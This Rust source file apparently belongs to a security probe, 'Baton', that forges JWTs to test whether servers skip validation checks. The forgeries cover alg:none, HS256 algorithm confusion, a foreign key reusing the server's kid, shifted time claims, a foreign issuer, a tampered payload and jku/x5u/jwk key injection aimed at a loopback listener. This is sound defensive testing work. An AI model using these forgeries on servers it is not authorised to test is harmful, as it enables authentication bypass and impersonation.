//! Forged tokens for the token-validation probes, made with keys Baton generates at run time and
//! never with a server's real key. Each forgery starts from a real token's own header and claims
//! ([`Template`]) and changes one thing, so a server that accepts it shows exactly which check it
//! skips. [`FetchListener`] is Baton's own loopback listener, which the `jku`, `x5u` and `jwk`
//! forgeries point at: any fetch it sees is a server fetching keys named by a token.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::jwk::{AlgorithmParameters, EllipticCurve, Jwk};
use jsonwebtoken::{Algorithm, EncodingKey};
use p256::elliptic_curve::sec1::ToEncodedPoint;
use p256::pkcs8::{EncodePrivateKey, EncodePublicKey, LineEnding};
use serde_json::{Map, Value as Json, json};

/// How far in the past or future the time forgeries move a claim.
pub const SHIFT_SECS: i64 = 3600;

/// The `iss` of the foreign-issuer forgery: a name no real server has.
pub const FOREIGN_ISSUER: &str = "https://baton-probe.invalid/foreign-issuer";

/// The `sub` the tampered payload claims.
pub const TAMPERED_SUB: &str = "baton-probe-tampered-subject";

fn b64(bytes: &[u8]) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

fn encode_part(map: &Map<String, Json>) -> String {
    b64(Json::Object(map.clone()).to_string().as_bytes())
}

/// A P-256 key Baton made for this run: it signs the forgeries that need a signature.
pub struct ForgeKey {
    encoding: EncodingKey,
    kid: String,
    x: String,
    y: String,
}

impl std::fmt::Debug for ForgeKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ForgeKey").field("kid", &self.kid).finish()
    }
}

impl ForgeKey {
    /// A fresh random key.
    pub fn generate() -> Result<Self, String> {
        let secret = p256::SecretKey::random(&mut rand::rngs::OsRng);
        let pem = secret
            .to_pkcs8_pem(LineEnding::LF)
            .map_err(|e| format!("could not encode Baton's forging key: {e}"))?;
        let encoding = EncodingKey::from_ec_pem(pem.as_bytes())
            .map_err(|e| format!("could not load Baton's forging key: {e}"))?;
        let point = secret.public_key().to_encoded_point(false);
        let (Some(x), Some(y)) = (point.x(), point.y()) else {
            return Err("Baton's forging key has no affine coordinates".into());
        };
        let mut id = [0u8; 6];
        rand::RngCore::fill_bytes(&mut rand::rngs::OsRng, &mut id);
        Ok(ForgeKey {
            encoding,
            kid: format!("baton-probe-{}", b64(&id)),
            x: b64(x),
            y: b64(y),
        })
    }

    /// Baton's own key id (never a server's).
    pub fn kid(&self) -> &str {
        &self.kid
    }

    /// The public half as a JWK, with Baton's kid.
    pub fn public_jwk(&self) -> Json {
        json!({
            "kty": "EC",
            "crv": "P-256",
            "x": self.x,
            "y": self.y,
            "kid": self.kid,
            "alg": "ES256",
            "use": "sig",
        })
    }

    /// Signs `header` (with `alg` set to ES256) and `claims` as a compact JWS.
    pub fn sign(
        &self,
        header: &Map<String, Json>,
        claims: &Map<String, Json>,
    ) -> Result<String, String> {
        let mut header = header.clone();
        header.insert("alg".into(), json!("ES256"));
        let message = format!("{}.{}", encode_part(&header), encode_part(claims));
        let signature =
            jsonwebtoken::crypto::sign(message.as_bytes(), &self.encoding, Algorithm::ES256)
                .map_err(|e| format!("could not sign with Baton's key: {e}"))?;
        Ok(format!("{message}.{signature}"))
    }
}

/// A real token taken apart: the starting point of every forgery.
#[derive(Debug, Clone)]
pub struct Template {
    pub header: Map<String, Json>,
    pub claims: Map<String, Json>,
    /// The token as it came, for the forgery that keeps its header and signature.
    raw: String,
}

impl Template {
    /// `None` when the token is not a readable JWT.
    pub fn from_token(token: &str) -> Option<Self> {
        let jwt = crate::jwt::decode(token).jwt().cloned()?;
        Some(Template {
            header: jwt.header,
            claims: jwt.claims,
            raw: token.trim().to_string(),
        })
    }

    pub fn kid(&self) -> Option<&str> {
        self.header.get("kid").and_then(Json::as_str)
    }

    fn time(&self, name: &str) -> Option<i64> {
        self.claims.get(name).and_then(crate::response::integer)
    }

    /// `exp - iat` of the real token, or an hour when it cannot be read.
    fn lifetime(&self) -> i64 {
        match (self.time("exp"), self.time("iat")) {
            (Some(exp), Some(iat)) => exp
                .checked_sub(iat)
                .filter(|l| *l > 0)
                .unwrap_or(SHIFT_SECS),
            _ => SHIFT_SECS,
        }
    }
}

/// `alg: none`, no signature: the header says the token is unsigned.
pub fn alg_none(t: &Template) -> String {
    let mut header = t.header.clone();
    header.insert("alg".into(), json!("none"));
    format!("{}.{}.", encode_part(&header), encode_part(&t.claims))
}

/// HS256 keyed with `key_text` (the server's public key as text): the algorithm-confusion
/// attack on a server that takes the algorithm from the token.
pub fn hmac_with_key(t: &Template, key_text: &str) -> Result<String, String> {
    let mut header = t.header.clone();
    header.insert("alg".into(), json!("HS256"));
    let message = format!("{}.{}", encode_part(&header), encode_part(&t.claims));
    let key = EncodingKey::from_secret(key_text.as_bytes());
    let signature = jsonwebtoken::crypto::sign(message.as_bytes(), &key, Algorithm::HS256)
        .map_err(|e| format!("could not compute the HMAC: {e}"))?;
    Ok(format!("{message}.{signature}"))
}

/// The real header and claims (the server's `kid` kept), signed by Baton's key.
pub fn foreign_key_same_kid(t: &Template, key: &ForgeKey) -> Result<String, String> {
    key.sign(&t.header, &t.claims)
}

/// Expired an hour ago; `iat` (and `nbf` when present) moved back so the lifetime is unchanged.
pub fn expired(t: &Template, key: &ForgeKey, now: i64) -> Result<String, String> {
    let exp = now.saturating_sub(SHIFT_SECS);
    let iat = exp.saturating_sub(t.lifetime());
    let mut claims = t.claims.clone();
    claims.insert("exp".into(), json!(exp));
    claims.insert("iat".into(), json!(iat));
    if claims.contains_key("nbf") {
        claims.insert("nbf".into(), json!(iat));
    }
    key.sign(&t.header, &claims)
}

/// Keeps `exp` after `start`, so the token is not also expired when it becomes valid.
fn keep_exp_after(t: &Template, claims: &mut Map<String, Json>, start: i64) {
    if t.time("exp").is_none_or(|exp| exp <= start) {
        claims.insert("exp".into(), json!(start.saturating_add(t.lifetime())));
    }
}

/// Not valid before an hour from now.
pub fn nbf_future(t: &Template, key: &ForgeKey, now: i64) -> Result<String, String> {
    let nbf = now.saturating_add(SHIFT_SECS);
    let mut claims = t.claims.clone();
    claims.insert("nbf".into(), json!(nbf));
    keep_exp_after(t, &mut claims, nbf);
    key.sign(&t.header, &claims)
}

/// Issued an hour from now.
pub fn iat_future(t: &Template, key: &ForgeKey, now: i64) -> Result<String, String> {
    let iat = now.saturating_add(SHIFT_SECS);
    let mut claims = t.claims.clone();
    claims.insert("iat".into(), json!(iat));
    keep_exp_after(t, &mut claims, iat);
    key.sign(&t.header, &claims)
}

/// `iss` names an issuer that is not the server.
pub fn foreign_issuer(t: &Template, key: &ForgeKey) -> Result<String, String> {
    let mut claims = t.claims.clone();
    claims.insert("iss".into(), json!(FOREIGN_ISSUER));
    key.sign(&t.header, &claims)
}

/// The real header and signature over a payload with `sub` changed: the signature no longer
/// matches, which only a server that verifies it notices.
pub fn tampered_payload(t: &Template) -> String {
    let mut claims = t.claims.clone();
    claims.insert("sub".into(), json!(TAMPERED_SUB));
    let mut parts = t.raw.split('.');
    let header = parts.next().unwrap_or_default();
    let signature = parts.nth(1).unwrap_or_default();
    format!("{header}.{}.{signature}", encode_part(&claims))
}

/// Signed by Baton's key, whose kid the header names, with `member` (`jku` or `x5u`) pointing at
/// `url`: a server that fetches it trusts a key the token chose.
pub fn with_key_url(
    t: &Template,
    key: &ForgeKey,
    member: &str,
    url: &str,
) -> Result<String, String> {
    let mut header = t.header.clone();
    header.insert("kid".into(), json!(key.kid()));
    header.insert(member.into(), json!(url));
    key.sign(&header, &t.claims)
}

/// Signed by Baton's key and carrying Baton's public key in a `jwk` header; the embedded key's
/// own `x5u` names `x5u_url` (Baton's listener), so a server that chases it is caught too.
pub fn with_embedded_jwk(t: &Template, key: &ForgeKey, x5u_url: &str) -> Result<String, String> {
    let mut header = t.header.clone();
    let mut jwk = key.public_jwk();
    jwk["x5u"] = json!(x5u_url);
    header.insert("kid".into(), json!(key.kid()));
    header.insert("jwk".into(), jwk);
    key.sign(&header, &t.claims)
}

/// The server's public key as the text an HMAC-confused server would key with: the SPKI PEM for
/// an EC P-256 key (built from the JWK's x and y), otherwise the JWK's own JSON text. The second
/// value says which, for the probe's reason.
pub fn server_key_text(jwk: &Jwk) -> (String, String) {
    if let AlgorithmParameters::EllipticCurve(ec) = &jwk.algorithm
        && ec.curve == EllipticCurve::P256
        && let Some(pem) = p256_spki_pem(&ec.x, &ec.y)
    {
        return (pem, "its P-256 public key as SPKI PEM text".into());
    }
    let text = serde_json::to_string(jwk).unwrap_or_default();
    (
        text,
        "its public key's JWK JSON text (Baton builds PEM only for P-256 keys)".into(),
    )
}

fn p256_spki_pem(x: &str, y: &str) -> Option<String> {
    let x = URL_SAFE_NO_PAD.decode(x).ok()?;
    let y = URL_SAFE_NO_PAD.decode(y).ok()?;
    let mut sec1 = Vec::with_capacity(65);
    sec1.push(0x04);
    sec1.extend_from_slice(&x);
    sec1.extend_from_slice(&y);
    let key = p256::PublicKey::from_sec1_bytes(&sec1).ok()?;
    key.to_public_key_pem(LineEnding::LF).ok()
}

/// A request the listener received.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fetch {
    pub method: String,
    pub path: String,
}

/// Baton's loopback listener: answers any request with 404 and remembers it. It stops when
/// dropped, or after its lifetime at the latest.
pub struct FetchListener {
    addr: SocketAddr,
    fetches: Arc<Mutex<Vec<Fetch>>>,
    stop: Arc<AtomicBool>,
}

/// The most a listener records, and reads of one request's head.
const MAX_FETCHES: usize = 64;
const MAX_HEAD_BYTES: usize = 8 * 1024;

impl FetchListener {
    /// Listens on 127.0.0.1 on a free port for at most `lifetime`.
    pub fn start(lifetime: Duration) -> std::io::Result<Self> {
        let listener = TcpListener::bind(("127.0.0.1", 0))?;
        listener.set_nonblocking(true)?;
        let addr = listener.local_addr()?;
        let fetches = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (seen, stopped) = (fetches.clone(), stop.clone());
        std::thread::Builder::new()
            .name("baton-probe-listener".into())
            .spawn(move || {
                let deadline = Instant::now() + lifetime;
                while !stopped.load(Ordering::SeqCst) && Instant::now() < deadline {
                    match listener.accept() {
                        Ok((stream, _)) => answer(stream, &seen),
                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {
                            std::thread::sleep(Duration::from_millis(5));
                        }
                        Err(_) => std::thread::sleep(Duration::from_millis(5)),
                    }
                }
            })?;
        Ok(FetchListener {
            addr,
            fetches,
            stop,
        })
    }

    /// `http://127.0.0.1:PORT{path}`.
    pub fn url(&self, path: &str) -> String {
        format!("http://{}{path}", self.addr)
    }

    /// What was fetched so far.
    pub fn fetches(&self) -> Vec<Fetch> {
        self.fetches
            .lock()
            .map(|f| f.clone())
            .unwrap_or_else(|p| p.into_inner().clone())
    }
}

impl Drop for FetchListener {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
    }
}

/// Reads a request head (bounded, with a timeout), records it, answers 404.
fn answer(mut stream: TcpStream, seen: &Mutex<Vec<Fetch>>) {
    let _ = stream.set_nonblocking(false);
    let _ = stream.set_read_timeout(Some(Duration::from_secs(2)));
    let _ = stream.set_write_timeout(Some(Duration::from_secs(2)));
    let mut head = Vec::new();
    let mut buf = [0u8; 1024];
    while head.len() < MAX_HEAD_BYTES && !head.windows(4).any(|w| w == b"\r\n\r\n") {
        match stream.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => head.extend_from_slice(&buf[..n]),
        }
    }
    let text = String::from_utf8_lossy(&head);
    let mut first = text.lines().next().unwrap_or_default().split_whitespace();
    let fetch = Fetch {
        method: first.next().unwrap_or("?").to_string(),
        path: first.next().unwrap_or("?").to_string(),
    };
    if let Ok(mut list) = seen.lock()
        && list.len() < MAX_FETCHES
    {
        list.push(fetch);
    }
    let _ = stream
        .write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::jwt::decode;

    fn template() -> Template {
        let header = json!({"alg": "ES256", "typ": "at+jwt", "kid": "server-kid"});
        let claims =
            json!({"iss": "https://as", "sub": "alice", "exp": 2_000, "iat": 1_000, "jti": "j1"});
        let raw = format!(
            "{}.{}.c2ln",
            b64(header.to_string().as_bytes()),
            b64(claims.to_string().as_bytes())
        );
        Template::from_token(&raw).expect("a JWT")
    }

    #[test]
    fn alg_none_is_unsigned_with_the_same_claims() {
        let t = template();
        let forged = alg_none(&t);
        assert!(forged.ends_with('.'));
        let jwt = decode(&forged).jwt().cloned().expect("jwt");
        assert_eq!(jwt.alg(), Some("none"));
        assert_eq!(jwt.claims, t.claims);
        assert_eq!(jwt.kid(), Some("server-kid"));
    }

    #[test]
    fn forgeries_change_one_thing() {
        let t = template();
        let key = ForgeKey::generate().expect("key");
        let read = |tok: &str| decode(tok).jwt().cloned().expect("jwt");
        let same = read(&foreign_key_same_kid(&t, &key).expect("signed"));
        assert_eq!(same.kid(), Some("server-kid"));
        assert_eq!(same.claims, t.claims);
        let exp = read(&expired(&t, &key, 10_000).expect("signed"));
        assert_eq!(exp.time("exp"), Some(6_400));
        assert_eq!(exp.time("iat"), Some(5_400));
        let nbf = read(&nbf_future(&t, &key, 10_000).expect("signed"));
        assert_eq!(nbf.time("nbf"), Some(13_600));
        assert_eq!(nbf.time("exp"), Some(14_600));
        let iss = read(&foreign_issuer(&t, &key).expect("signed"));
        assert_eq!(iss.iss(), Some(FOREIGN_ISSUER));
        let tampered = tampered_payload(&t);
        assert!(tampered.starts_with(t.raw.split('.').next().unwrap_or_default()));
        assert!(tampered.ends_with(".c2ln"));
        assert_eq!(read(&tampered).sub(), Some(TAMPERED_SUB));
        let jku = read(&with_key_url(&t, &key, "jku", "http://127.0.0.1:1/k").expect("signed"));
        assert_eq!(jku.header.get("jku"), Some(&json!("http://127.0.0.1:1/k")));
        assert_eq!(jku.kid(), Some(key.kid()));
        let jwk = read(&with_embedded_jwk(&t, &key, "http://127.0.0.1:1/x").expect("signed"));
        let embedded = jwk.header.get("jwk").cloned().unwrap_or_default();
        assert_eq!(embedded["x"], key.public_jwk()["x"]);
        assert_eq!(embedded["x5u"], json!("http://127.0.0.1:1/x"));
    }

    #[test]
    fn baton_signatures_verify_with_baton_key_only() {
        let t = template();
        let key = ForgeKey::generate().expect("key");
        let token = foreign_key_same_kid(&t, &key).expect("signed");
        let mut jwk = key.public_jwk();
        jwk["kid"] = json!("server-kid");
        let jwks = crate::verify::Jwks::parse(json!({"keys": [jwk]}).to_string().as_bytes(), "t")
            .expect("jwks");
        let mut options = crate::verify::VerifyOptions::new(1_500);
        options.leeway_secs = 0;
        assert!(crate::verify::verify(&token, &jwks, &options).valid);
        let other = ForgeKey::generate().expect("key");
        assert!(
            !crate::verify::verify(
                &foreign_key_same_kid(&t, &other).expect("signed"),
                &jwks,
                &options
            )
            .valid
        );
    }

    #[test]
    fn the_p256_key_text_is_spki_pem() {
        let key = ForgeKey::generate().expect("key");
        let jwk: Jwk = serde_json::from_value(key.public_jwk()).expect("jwk");
        let (text, what) = server_key_text(&jwk);
        assert!(text.starts_with("-----BEGIN PUBLIC KEY-----"), "{text}");
        assert!(what.contains("PEM"));
        let forged = hmac_with_key(&template(), &text).expect("hmac");
        assert_eq!(
            decode(&forged)
                .jwt()
                .and_then(|j| j.alg().map(str::to_string)),
            Some("HS256".into())
        );
    }

    #[test]
    fn the_listener_records_a_fetch_and_answers_404() {
        let listener = FetchListener::start(Duration::from_secs(5)).expect("listener");
        let url = listener.url("/keys.json");
        let addr = url
            .trim_start_matches("http://")
            .split('/')
            .next()
            .unwrap_or_default()
            .to_string();
        let mut stream = TcpStream::connect(addr).expect("connect");
        stream
            .write_all(b"GET /keys.json HTTP/1.1\r\nHost: x\r\n\r\n")
            .expect("write");
        let mut reply = String::new();
        let _ = stream.read_to_string(&mut reply);
        assert!(reply.starts_with("HTTP/1.1 404"), "{reply}");
        assert_eq!(
            listener.fetches(),
            vec![Fetch {
                method: "GET".into(),
                path: "/keys.json".into()
            }]
        );
    }
}
